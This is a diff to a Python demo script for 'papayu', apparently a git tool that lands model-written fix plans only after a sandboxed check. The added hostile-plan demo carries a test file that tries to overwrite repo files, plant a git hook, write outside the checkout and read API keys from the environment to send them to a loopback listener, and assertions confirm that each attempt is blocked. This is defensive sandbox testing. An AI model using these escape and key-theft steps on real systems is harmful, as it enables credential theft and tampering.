@@ -2,31 +2,44 @@
 
 Validates a good and a bad plan, then runs the real transaction on a sample
 project with a failing test: a wrong fix is rolled back (branch unchanged), the
-right fix lands. (The LLM issue puts the model in front of the plans.)
+right fix lands, its check run sandboxed (bwrap) in an isolated checkout. Then
+`git papayu doctor`, a hostile plan whose test tries to escape the check (blocked),
+traces, memory, the pre-commit hook, and the same flow with the embedded model.
+Where bubblewrap cannot run, the check runs unsandboxed: the demo says so and
+skips the hostile step's strict assertions.
 """
 
 from __future__ import annotations
 
 import hashlib
 import json
+import os
 import shutil
+import socket
 import subprocess
 import sys
+import textwrap
+import threading
 from pathlib import Path
 
 ROOT = Path(__file__).resolve().parent.parent
 WORK = ROOT / "demo-work"
+# The check's sandbox here: None = bwrap works (tried once), else why the check runs unsandboxed.
+SANDBOX_REASON: str | None = None
 
 
 def step(text: str) -> None:
     print(f"\n==> {text}", flush=True)
 
 
-def sh(*args: str, cwd: Path = WORK, check: bool = True) -> subprocess.CompletedProcess[str]:
+def sh(*args: str, cwd: Path = WORK, check: bool = True, env: dict[str, str] | None = None,
+       show: bool = True) -> subprocess.CompletedProcess[str]:
     print("$ " + " ".join(args), flush=True)
-    proc = subprocess.run(args, cwd=cwd, text=True, capture_output=True)
-    sys.stdout.write(proc.stdout)
-    sys.stdout.write(proc.stderr)
+    proc = subprocess.run(args, cwd=cwd, text=True, capture_output=True,
+                          env={**os.environ, **env} if env else None)
+    if show:
+        sys.stdout.write(proc.stdout)
+        sys.stdout.write(proc.stderr)
     if check and proc.returncode != 0:
         raise SystemExit(f"demo step failed: {' '.join(args)} (exit {proc.returncode})")
     return proc
@@ -83,7 +96,7 @@ def demo_apply(papayu: list[str]) -> None:
     assert sh(*check.split(), cwd=repo, check=False).returncode != 0
     head = sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip()
 
-    step("A WRONG plan (a * b) is committed in a temporary worktree; the check fails there -> rolled back")
+    step("A WRONG plan (a * b) is committed and checked in an isolated checkout; the check fails -> rolled back")
     (WORK / "wrong.json").write_text(json.dumps(patch_plan("return a * b", "use multiplication")))
     proc = sh(*papayu, "apply", str(WORK / "wrong.json"), cwd=repo, check=False)
     assert proc.returncode == 1, "the wrong plan must be rolled back"
@@ -94,14 +107,155 @@ def demo_apply(papayu: list[str]) -> None:
     assert (repo / "calc.py").read_text() == BUGGY and (repo / "NOTES.md").exists()
     assert not sh("git", "branch", "--list", "papayu/*", cwd=repo).stdout.strip()
 
-    step("The fix plan (a + b) passes the check in the worktree -> main is fast-forwarded")
+    step("The fix plan (a + b) passes the check in its checkout -> main is fast-forwarded")
     (WORK / "fix.json").write_text(json.dumps(patch_plan("return a + b", "fix add(): use addition")))
-    sh(*papayu, "apply", str(WORK / "fix.json"), cwd=repo)
+    proc = sh(*papayu, "apply", str(WORK / "fix.json"), cwd=repo)
     sh("git", "log", "-1", "--format=%h %s%n%n%b", cwd=repo)
     assert "return a + b" in (repo / "calc.py").read_text() and (repo / "NOTES.md").exists()
     sh(*check.split(), cwd=repo)
+    show_check_sandbox(repo, proc.stderr)
     step("Plans and their states")
     sh(*papayu, "list", cwd=repo)
+
+
+def show_check_sandbox(repo: Path, apply_stderr: str) -> None:
+    """The line papayu printed before the check ran, and the trailers of the landed commit."""
+    step("Where the check ran: papayu names the command, its source and the sandbox before running it, "
+         "and the landed commit records them")
+    said = [line for line in apply_stderr.splitlines() if line.startswith("check: ")]
+    print("papayu said:  " + (said[0] if said else "(no check line)"))
+    trailers = sh("git", "log", "-1", "--format=%(trailers:key=Papayu-Check,key=Papayu-Check-Source,"
+                  "key=Papayu-Sandbox)", cwd=repo).stdout
+    assert said and "Papayu-Check-Source: git config papayu.checkCommand" in trailers
+    if SANDBOX_REASON is None:
+        assert said[0].endswith("sandbox: bwrap)") and "Papayu-Sandbox: bwrap" in trailers
+        print("-> the check ran under bubblewrap: read-only /, writable only its own checkout and a private "
+              "/tmp and HOME, no network, no API keys in its environment")
+    else:
+        assert "Papayu-Sandbox: none" in trailers
+        print(f"-> bubblewrap is unavailable here ({SANDBOX_REASON}): the check ran UNSANDBOXED "
+              "(isolated checkout and allowlisted environment only); see `git papayu doctor`")
+
+
+def demo_doctor(papayu: list[str]) -> None:
+    step("`git papayu doctor`: what papayu can use here, each item actually tried")
+    sh(*papayu, "doctor", cwd=WORK / "sample", check=False)
+
+
+FAKE_KEY = "sk-demo-0000-not-a-real-key"
+
+
+def _attack_test(user_repo: Path, outside: Path, port: int) -> str:
+    """The test file of a hostile plan: it tries to get out of the check, prints what it got,
+    and (written as an exploit's proof) passes only if it stole a key."""
+    return textwrap.dedent(f'''\
+        import os, socket
+
+        REPO, OUTSIDE, PORT = {str(user_repo)!r}, {str(outside)!r}, {port}
+
+
+        def attempt(what, action):
+            try:
+                action()
+                print(f"ATTACK {{what}}: ESCAPED")
+            except Exception as exc:
+                print(f"ATTACK {{what}}: blocked ({{type(exc).__name__}}: {{exc}})")
+
+
+        def append(path, text="pwned by the plan\\n"):
+            with open(path, "a") as f:
+                f.write(text)
+
+
+        def test_hostile():
+            attempt("overwrite your notes " + os.path.join(REPO, "NOTES.md"), lambda: append(os.path.join(REPO, "NOTES.md")))
+            attempt("edit your calc.py", lambda: append(os.path.join(REPO, "calc.py"), "import os  # backdoor\\n"))
+            attempt("plant a git hook in your .git/hooks", lambda: append(os.path.join(REPO, ".git/hooks/post-checkout")))
+            attempt("write outside the repository " + OUTSIDE, lambda: append(OUTSIDE))
+            stolen = {{k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "TOKEN", "SECRET"))}}
+            print("ATTACK read API keys from the environment:", sorted(stolen) or "none there")
+            attempt(f"send them to 127.0.0.1:{{PORT}}",
+                    lambda: socket.create_connection(("127.0.0.1", PORT), timeout=2).close())
+            print("ATTACK HOME is", os.environ.get("HOME"))
+            assert stolen, "the exploit got no key"
+    ''')
+
+
+class _Listener:
+    """The attacker's loopback server: counts the connections that reach it."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(4)
+        self.sock.settimeout(0.2)
+        self.port = int(self.sock.getsockname()[1])
+        self.accepted, self.done = 0, False
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        while not self.done:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            self.accepted += 1
+            conn.close()
+
+    def close(self) -> None:
+        self.done = True
+        self.thread.join(timeout=2)
+        self.sock.close()
+
+
+def demo_hostile(papayu: list[str]) -> None:
+    """A plan is model-written code, and the check is where it first runs: its test is hostile."""
+    step("A HOSTILE plan: its new test tries to overwrite your files, plant a git hook, write outside "
+         "the repository, and steal an API key from papayu's environment")
+    repo = sample_repo("sample-hostile")
+    (repo / "calc.py").write_text(BUGGY.replace("a - b", "a + b"))
+    subprocess.run(["git", "commit", "-q", "-am", "fix add"], cwd=repo, check=True)
+    sh("git", "config", "papayu.checkCommand", f"{sys.executable} -m pytest -q -p no:cacheprovider", cwd=repo)
+    (repo / "calc.py").write_text("# my uncommitted edit\n" + (repo / "calc.py").read_text())
+    outside = WORK / "pwned.txt"
+    before = {p: (repo / p).read_bytes() for p in ("calc.py", "NOTES.md")}
+    head = sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip()
+    status = sh("git", "status", "--short", cwd=repo).stdout
+    listener = _Listener()
+    try:
+        plan = {"actions": [{"kind": "CREATE_FILE", "path": "tests/test_hostile.py",
+                             "content": _attack_test(repo, outside, listener.port)}],
+                "summary": "add a test"}
+        (WORK / "hostile.json").write_text(json.dumps(plan))
+        print(f"(papayu runs with OPENAI_API_KEY={FAKE_KEY} and GITHUB_TOKEN set)")
+        proc = sh(*papayu, "apply", str(WORK / "hostile.json"), cwd=repo, check=False, show=False,
+                  env={"OPENAI_API_KEY": FAKE_KEY, "GITHUB_TOKEN": "ghp_demo0000notarealtoken"})
+    finally:
+        listener.close()
+    sys.stdout.write(proc.stdout)  # the check's output tail is left out here: the report below is in it
+    print("\n".join(line for line in proc.stderr.splitlines() if line.startswith(("check", "ERR_", "warning"))))
+    logs = sorted((repo / ".git" / "papayu" / "checks").glob("*.log"), key=lambda p: p.stat().st_mtime)
+    log = logs[-1].read_text() if logs else ""
+    report = [line for line in log.splitlines() if line.startswith("ATTACK ")]
+    step("What the attack's report says (from the check's log)")
+    print("\n".join(report) or "(no report: the test did not run)")
+    print(f"connections that reached the attacker's server: {listener.accepted}")
+    if SANDBOX_REASON is not None:
+        print(f"the check ran UNSANDBOXED here ({SANDBOX_REASON}): only the environment allowlist applied; "
+              "the hostile step's strict assertions are skipped")
+        outside.unlink(missing_ok=True)
+        return
+    step("Blocked: the plan was rolled back, and nothing of yours changed; nothing outside the checkout "
+         "was written; no key reached the check")
+    assert proc.returncode == 1, "the hostile plan must not land"
+    assert sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip() == head
+    assert sh("git", "status", "--short", cwd=repo).stdout == status
+    assert all((repo / p).read_bytes() == data for p, data in before.items()), "your files must be unchanged"
+    assert not (repo / ".git" / "hooks" / "post-checkout").exists() and not outside.exists()
+    assert listener.accepted == 0 and FAKE_KEY not in log
+    assert len(report) >= 7 and not any("ESCAPED" in line for line in report), report
+    assert "none there" in log, "no key may reach the check"
 
 
 def demo_observability(papayu: list[str]) -> None:
@@ -140,7 +294,7 @@ Point papayu at a stronger model for real work:
 
 
 def demo_local_model(papayu: list[str]) -> None:
-    """The model in front: plan -> apply on the embedded local model (issue 4 §6).
+    """The model in front: plan -> apply on the embedded local model.
 
     The tiny model is often wrong; a rejected answer or a rolled-back fix is a valid ending:
     the point is that nothing reaches the user's branch unless the check passes."""
@@ -164,7 +318,7 @@ def demo_local_model(papayu: list[str]) -> None:
     sys.stdout.write(proc.stderr[-6000:])
     landed = proc.returncode == 0 and sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip() != head
     if landed:
-        step("The model's fix passed the check in the worktree and landed")
+        step("The model's fix passed the sandboxed check and landed")
         sh("git", "log", "-1", "--format=%h %s", cwd=repo)
     else:
         step("The model's answer was rejected, its change failed the check, or it edits the existing test "
@@ -177,16 +331,28 @@ def demo_local_model(papayu: list[str]) -> None:
 
 
 def main() -> None:
+    global SANDBOX_REASON
+    from papayu_git.sandbox import unavailable_reason
+
     shutil.rmtree(WORK, ignore_errors=True)
     WORK.mkdir()
     papayu = [sys.executable, "-m", "papayu_git"]
+    # The demo shows the defaults, whatever this shell sets: sandbox when bwrap works, no network.
+    os.environ.update(PAPAYU_SANDBOX="auto", PAPAYU_CHECK_NETWORK="false")
+    SANDBOX_REASON = unavailable_reason()
+    print("the check's sandbox here: " + ("bwrap" if SANDBOX_REASON is None else
+                                          f"none, the check runs UNSANDBOXED ({SANDBOX_REASON})"))
     demo_validate(papayu)
     demo_apply(papayu)
+    demo_doctor(papayu)
+    demo_hostile(papayu)
     demo_observability(papayu)
     demo_hooks(papayu)
     demo_local_model(papayu)
-    print("\ndemo finished: bad plans rejected, the wrong fix rolled back, the right fix landed, "
-          "and the local model's attempt ended cleanly")
+    print("\ndemo finished: bad plans rejected, the wrong fix rolled back, the right fix landed after a "
+          + ("sandboxed" if SANDBOX_REASON is None else "(here unsandboxed)") + " check, the hostile plan's "
+          "escapes " + ("blocked" if SANDBOX_REASON is None else "reported") +
+          ", and the local model's attempt ended cleanly")
 
 
 if __name__ == "__main__":
